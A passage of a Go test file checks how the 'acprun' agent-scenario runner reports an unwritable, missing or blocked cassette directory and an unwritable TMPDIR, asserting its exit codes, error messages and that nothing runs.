	want := "acprun: f.yaml:3:10: gateway: cassettes: mkdir " + filepath.Join(dir, "file") + ": not a directory\n"
	if res.code != exitUsage || !strings.Contains(res.stderr, want) {
		t.Errorf("a file in the way of gateway.dir: exit %d, stderr:\n%s\nwant %d, with %q", res.code, res.stderr, exitUsage, want)
	}

	res = acprun(t, dir, "run", "r.yaml", "-q", "-o", "r.json")
	cassette := filepath.Join(dir, "cas", "g.cassette.json")
	want = "\nacprun: g: gateway: write cassette " + cassette + ": no such file or directory; the recording was lost\n"
	if res.code != exitOutput || !strings.HasSuffix(res.stderr, want) {
		t.Errorf("gateway.dir removed during the run: exit %d, stderr:\n%s\nwant %d, ending %q", res.code, res.stderr, exitOutput, want)
	}
	if got := readResults(t, filepath.Join(dir, "r.json")); got.Summary.Passed != 1 {
		t.Errorf("gateway.dir removed during the run: %d passed in the results, want 1", got.Summary.Passed)
	}

	if err := os.MkdirAll(filepath.Join(dir, "cas"), 0o755); err != nil {
		t.Fatal(err)
	}
	testkit.ReadOnlyDir(t, filepath.Join(dir, "cas"))
	served := len(up.Requests())
	res = acprun(t, dir, "run", "s.yaml", "-o", "r2.json")
	want = "acprun: s.yaml:3:10: gateway: cassettes: write " + filepath.Join(dir, "cas") + ": "
	if res.code != exitUsage || !strings.Contains(res.stderr, want) {
		t.Errorf("an unwritable gateway.dir: exit %d, stderr:\n%s\nwant %d, with %q", res.code, res.stderr, exitUsage, want)
	}
	if n := len(up.Requests()) - served; n > 0 {
		t.Errorf("an unwritable gateway.dir: the agent made %d model requests; want none: nothing runs", n)
	}
	if _, err := os.Stat(filepath.Join(dir, "r2.json")); err == nil {
		t.Errorf("an unwritable gateway.dir: results were written; want nothing run")
	}
}

// TestTempDirUnwritable: acprun's own temporary area, the system's
// temporary directory, that cannot be written is an error before anything
// runs (exit 2), as an unwritable --workspace-dir is, when a scenario
// needs it: for its workspace (fix TMPDIR, or give --workspace-dir), for
// the model gateway's socket (fix TMPDIR). No agent starts, and the message
// names no temporary file. A run that needs nothing there runs.
func TestTempDirUnwritable(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	files := gatewayFiles(gatewayAPIs[0], "http://127.0.0.1:1", "second")
	files["g.yaml"] = files["s.yaml"] // refused before its agent starts
	files["w.yaml"] = strings.Replace(mockScenario, "name: s", "name: w\nworkspace: {from: src}", 1)
	files["s.yaml"] = mockScenario
	files["agent.mock.yaml"] = mockScript
	files["src/f.txt"] = "x"
	writeFiles(t, dir, files)
	tmp := filepath.Join(dir, "tmp")
	if err := os.Mkdir(tmp, 0o755); err != nil {
		t.Fatal(err)
	}
	testkit.ReadOnlyDir(t, tmp)
	env := []string{"TMPDIR=" + tmp}

	res := acprunEnv(t, dir, env, "run", "w.yaml", "-o", "r.json")
	want := "acprun: the temporary directory " + tmp + " (TMPDIR): write " + tmp + ": " // then the errno
	tail := `: acprun makes the workspaces (scenario "w") there: set TMPDIR to a directory it can write in, or give --workspace-dir DIR` + "\n"
	if res.code != exitUsage || !strings.Contains(res.stderr, want) || !strings.HasSuffix(res.stderr, tail) {
		t.Errorf("a workspace: exit %d, stderr:\n%s\nwant %d, with %q, ending %q", res.code, res.stderr, exitUsage, want, tail)
	}
	if _, err := os.Stat(filepath.Join(dir, "r.json")); err == nil {
		t.Errorf("a workspace: results were written; want nothing run")
	}

	res = acprunEnv(t, dir, env, "run", "w.yaml", "-o", "r.json", "--workspace-dir", "wsd")
	if res.code != exitOK {
		t.Errorf("a workspace in --workspace-dir: exit %d, want 0\n%s", res.code, res.stderr)
	}

	res = acprunEnv(t, dir, env, "run", "g.yaml", "-o", "r2.json", "--workspace-dir", "wsd")
	tail = `: acprun makes the model gateway's socket (scenario "g") there: set TMPDIR to a directory it can write in` + "\n"
	if res.code != exitUsage || !strings.Contains(res.stderr, want) || !strings.HasSuffix(res.stderr, tail) {
		t.Errorf("a gateway: exit %d, stderr:\n%s\nwant %d, with %q, ending %q", res.code, res.stderr, exitUsage, want, tail)
	}

	res = acprunEnv(t, dir, env, "run", "s.yaml", "-o", "r3.json")
	if res.code != exitOK {
		t.Errorf("nothing in TMPDIR: exit %d, want 0\n%s", res.code, res.stderr)
	}
}
